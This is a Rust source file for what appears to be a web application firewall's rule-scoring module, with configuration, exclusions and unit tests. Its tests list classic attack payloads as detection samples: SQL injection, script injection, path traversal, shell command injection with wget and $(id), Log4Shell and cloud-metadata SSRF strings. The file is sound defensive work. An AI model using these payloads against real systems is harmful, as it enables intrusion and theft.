//! The sum of what the rules say of a request.

use std::collections::BTreeMap;

use regex_lite::Regex;
use ringwall_guest::configuration::in_range;
use ringwall_guest::json::{self, Kind, Node};
use ringwall_guest::media::Media;
use ringwall_guest::target::{self, Target};
use serde::Deserialize;

use crate::core_set::{self, ENCODED_TOO_OFTEN, NUL, Part, RULES, Rule};
use crate::normalise::normalise;

/// The configuration.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    #[serde(default)]
    pub mode: Mode,
    #[serde(default = "default_paranoia")]
    paranoia: u8,
    #[serde(default = "default_threshold")]
    threshold: u32,
    #[serde(default)]
    exclude: Vec<Exclusion>,
    #[serde(default = "default_body_bytes")]
    max_body_bytes: usize,
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    #[default]
    Block,
    /// Says what would be blocked, in the log and in metrics.
    Detect,
}

const fn default_paranoia() -> u8 {
    1
}

const fn default_threshold() -> u32 {
    5
}

const fn default_body_bytes() -> usize {
    128 * 1024
}

/// Where a rule is not used: everything that is named has to fit.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Exclusion {
    rule: u32,
    #[serde(default)]
    path_prefix: Option<String>,
    /// Of the query, a form, a cookie; the last name of a member in JSON.
    #[serde(default)]
    parameter: Option<String>,
}

/// Ready to judge.
#[derive(Debug)]
pub struct Rules {
    pub config: Config,
    compiled: Vec<(&'static Rule, Regex)>,
}

/// What was found so far: rules with their scores, each once.
#[derive(Debug, Default)]
pub struct Score {
    hits: BTreeMap<u32, u32>,
}

impl Score {
    #[must_use]
    pub fn sum(&self) -> u32 {
        self.hits.values().sum()
    }

    /// The rules, for the log. No value of the request is in it.
    #[must_use]
    pub fn ids(&self) -> String {
        let ids: Vec<String> = self.hits.keys().map(u32::to_string).collect();
        ids.join(" ")
    }
}

impl Rules {
    /// # Errors
    /// Names what is wrong.
    pub fn new(config: Config) -> Result<Self, String> {
        in_range("paranoia", &config.paranoia, &(1..=3))?;
        in_range("threshold", &config.threshold, &(1..=100))?;
        in_range("max_body_bytes", &config.max_body_bytes, &(1..=1_048_576))?;
        for exclusion in &config.exclude {
            let id = exclusion.rule;
            let known = RULES.iter().any(|rule| rule.id == id);
            if !known && ![NUL, ENCODED_TOO_OFTEN].contains(&id) {
                return Err(format!("exclude: there is no rule {id}"));
            }
        }
        let used = RULES.iter().filter(|rule| rule.paranoia <= config.paranoia);
        let compiled = used.map(|rule| {
            let regex = Regex::new(rule.pattern);
            let regex = regex.map_err(|error| format!("rule {}: {error}", rule.id))?;
            Ok((rule, regex))
        });
        let compiled = compiled.collect::<Result<Vec<_>, String>>()?;
        Ok(Self { config, compiled })
    }

    #[must_use]
    pub fn max_body_bytes(&self) -> usize {
        self.config.max_body_bytes
    }

    /// True when the sum is that of an attack.
    #[must_use]
    pub fn is_attack(&self, score: &Score) -> bool {
        score.sum() >= self.config.threshold
    }

    /// Judges path and query.
    pub fn target(&self, target: &[u8], score: &mut Score) {
        let parts = Target::new(target);
        let path = target::decode(parts.path);
        let place = Place {
            path: &path,
            name: "",
        };
        self.value(Part::Path, parts.path, place, score);
        for (name, value) in parts.parameters() {
            self.pair(&name, &value, &path, score);
        }
    }

    /// Judges a header that is no pseudo-header.
    pub fn header(&self, name: &str, value: &[u8], path: &[u8], score: &mut Score) {
        let place = Place { path, name };
        match name {
            "user-agent" => self.value(Part::UserAgent, value, place, score),
            "cookie" => {
                for pair in value.split(|byte| *byte == b';') {
                    let mut parts = pair.trim_ascii().splitn(2, |byte| *byte == b'=');
                    let name = parts.next().unwrap_or_default();
                    self.pair(name, parts.next().unwrap_or_default(), path, score);
                }
            }
            // Lists of types and languages are no texts of clients.
            "accept" | "accept-language" | "accept-encoding" => {}
            _ => self.value(Part::Header, value, place, score),
        }
    }

    /// Judges a body by what it says that it is; what is not that is judged as a text.
    pub fn body(&self, media: Media, body: &[u8], path: &[u8], score: &mut Score) {
        match (media, json::parse(body)) {
            (Media::Json, Ok(node)) => self.node("", &node, path, score),
            (Media::Form, _) => {
                for (name, value) in target::parameters(body) {
                    self.pair(&name, &value, path, score);
                }
            }
            _ => self.value(Part::Value, body, Place { path, name: "" }, score),
        }
    }

    fn node(&self, name: &str, node: &Node, path: &[u8], score: &mut Score) {
        match &node.kind {
            Kind::Text(text) => {
                self.value(Part::Value, text.as_bytes(), Place { path, name }, score);
            }
            Kind::Array(items) => {
                for item in items {
                    self.node(name, item, path, score);
                }
            }
            Kind::Object(members) => {
                for member in members {
                    let place = Place { path, name };
                    self.value(Part::Value, member.name.as_bytes(), place, score);
                    self.node(&member.name, &member.value, path, score);
                }
            }
            Kind::Number(_) | Kind::Bool(_) | Kind::Null => {}
        }
    }

    fn pair(&self, name: &[u8], value: &[u8], path: &[u8], score: &mut Score) {
        let text = String::from_utf8_lossy(name);
        let place = Place { path, name: &text };
        self.value(Part::Value, name, place, score);
        self.value(Part::Value, value, place, score);
    }

    fn value(&self, part: Part, value: &[u8], place: Place<'_>, score: &mut Score) {
        if value.is_empty() {
            return;
        }
        let normal = normalise(value);
        for (found, id) in [(normal.nul, NUL), (normal.too_often, ENCODED_TOO_OFTEN)] {
            if found && !self.is_excluded(id, place) {
                score.hits.insert(id, core_set::SURE);
            }
        }
        for (rule, regex) in &self.compiled {
            if !rule.parts.contains(&part) || score.hits.contains_key(&rule.id) {
                continue;
            }
            let mut words = rule.words.iter();
            let worth = rule.words.is_empty() || words.any(|word| normal.text.contains(word));
            if worth && regex.is_match(&normal.text) && !self.is_excluded(rule.id, place) {
                score.hits.insert(rule.id, rule.score);
            }
        }
    }

    fn is_excluded(&self, id: u32, place: Place<'_>) -> bool {
        self.config.exclude.iter().any(|exclusion| {
            let prefix = exclusion.path_prefix.as_ref();
            let name = exclusion.parameter.as_ref();
            exclusion.rule == id
                && prefix.is_none_or(|prefix| place.path.starts_with(prefix.as_bytes()))
                && name.is_none_or(|name| name == place.name)
        })
    }
}

/// Where a value stands.
#[derive(Clone, Copy)]
struct Place<'a> {
    path: &'a [u8],
    name: &'a str,
}

#[cfg(test)]
mod tests {
    use ringwall_guest::configuration::parse;

    use super::*;

    fn rules(json: &str) -> Result<Rules, String> {
        parse::<Config>(json.as_bytes()).and_then(Rules::new)
    }

    fn found(json: &str, value: &str) -> String {
        let mut score = Score::default();
        rules(json)
            .unwrap()
            .body(Media::Text, value.as_bytes(), b"/", &mut score);
        score.ids()
    }

    #[test]
    fn attacks_are_found() {
        for (value, id) in [
            ("1 UNION ALL SELECT a,b FROM c", "1001"),
            ("1/**/union/**/select 1", "1001"),
            ("' or '1'='1", "1002"),
            ("x') OR ('a' LIKE 'a", "1002"),
            ("5 or 1=1", "1003"),
            ("1; DROP TABLE users", "1004"),
            ("1 and sleep(5)", "1005"),
            ("select * from information_schema.tables", "1006"),
            ("admin'--", "1007"),
            ("<ScRiPt>alert(1)</script>", "2001"),
            ("<img src=x onerror=alert(1)>", "2002"),
            ("\" onmouseover=\"x", "2002"),
            ("javascript:alert(1)", "2003"),
            ("<iframe src=x>", "2004"),
            ("../../etc/passwd", "3001"),
            ("/etc/passwd", "3002"),
            ("php://filter/convert", "3003"),
            ("a; wget http://x/y", "4001"),
            ("a|cat /etc/hosts", "4002"),
            ("$(id)", "4002"),
            ("/bin/sh -c x", "4003"),
            ("() { :; }; x", "4004"),
            ("${jndi:ldap://x/a}", "4005"),
            ("<?php system()", "4006"),
            ("http://169.254.169.254/latest/meta-data", "5001"),
            ("http://[fd00:ec2::254]/", "5001"),
            ("a%00b", "7001"),
        ] {
            let ids = found("{}", value);
            assert!(ids.split(' ').any(|found| found == id), "{value}: {ids}");
        }
    }

    #[test]
    fn ordinary_texts_are_no_attacks() {
        for value in [
            "Select your favourite from the list",
            "O'Reilly & Sons",
            "I have a dog; cat food is out",
            "rock'n'roll or jazz",
            "the union selected a leader",
            "it costs 5 or 6 euro",
            "a -- b",
            "I was on time = good",
            "x < y and y > z",
            "drop me a line; create something",
            "C:/Users/me/file.txt",
            "https://example.com/a?b=c&d=e",
            "see the documentation. Window seats only",
            "wait for it... and then",
            "mail me at a@b.example (or call)",
            "Tom & Sh\u{e4}ron",
            "{\"a\": [1, 2]}",
            "price: $100 (net)",
            "50% off & more",
            "environment: production",
        ] {
            assert_eq!(found("{}", value), "", "{value}");
        }
    }

    #[test]
    fn paranoia_adds_rules() {
        let value = "select name from people";
        assert_eq!(found("{}", value), "");
        assert_eq!(found(r#"{"paranoia":2}"#, value), "1009");
    }

    #[test]
    fn scores_add_up_to_the_threshold() {
        let rules = rules(r#"{"threshold":8,"paranoia":2}"#).unwrap();
        let mut score = Score::default();
        rules.target(b"/?a=alert(1)", &mut score);
        assert!(!rules.is_attack(&score));
        rules.target(b"/?b=%3Csvg%3E", &mut score);
        assert_eq!(score.ids(), "2005 2006");
        assert!(rules.is_attack(&score));
    }

    #[test]
    fn exclusions_are_as_narrow_as_they_are_written() {
        let rules = rules(r#"{"exclude":[{"rule":2001,"path_prefix":"/cms","parameter":"html"}]}"#)
            .unwrap();
        let sum = |target: &str| {
            let mut score = Score::default();
            rules.target(target.as_bytes(), &mut score);
            score.sum()
        };
        assert_eq!(sum("/cms/edit?html=<script>"), 0);
        assert_eq!(sum("/cms/edit?title=<script>"), 5);
        assert_eq!(sum("/shop?html=<script>"), 5);
    }

    #[test]
    fn every_part_is_looked_at() {
        let rules = rules("{}").unwrap();
        let sum = |judge: &dyn Fn(&mut Score)| {
            let mut score = Score::default();
            judge(&mut score);
            score.sum()
        };
        assert_eq!(sum(&|score| rules.target(b"/a/%2e%2e/b", score)), 5);
        assert_eq!(sum(&|score| rules.target(b"/?<script>=1", score)), 5);
        assert_eq!(
            sum(&|score| rules.header("user-agent", b"sqlmap/1.7", b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.header("cookie", b"a=1; b=<script>", b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.header("x-api", b"${jndi:x}", b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.body(Media::Json, br#"{"a":["\u003cscript>"]}"#, b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.body(Media::Json, br#"{"<script>":1}"#, b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.body(Media::Json, br#"{"a":"<script>""#, b"/", score)),
            5
        );
        assert_eq!(
            sum(&|score| rules.body(Media::Form, b"a=%3Cscript%3E", b"/", score)),
            5
        );
    }

    #[test]
    fn configurations_that_make_no_sense_are_refused() {
        for json in [
            r#"{"paranoia":4}"#,
            r#"{"threshold":0}"#,
            r#"{"exclude":[{"rule":9}]}"#,
            r#"{"exclude":[{"path_prefix":"/"}]}"#,
            r#"{"mode":"off"}"#,
            r#"{"rules":[]}"#,
        ] {
            assert!(rules(json).is_err(), "{json}");
        }
    }

    #[test]
    fn ids_are_unique_and_all_patterns_compile() {
        assert!(rules(r#"{"paranoia":3}"#).is_ok());
        let mut ids: Vec<u32> = RULES.iter().map(|rule| rule.id).collect();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len());
    }
}
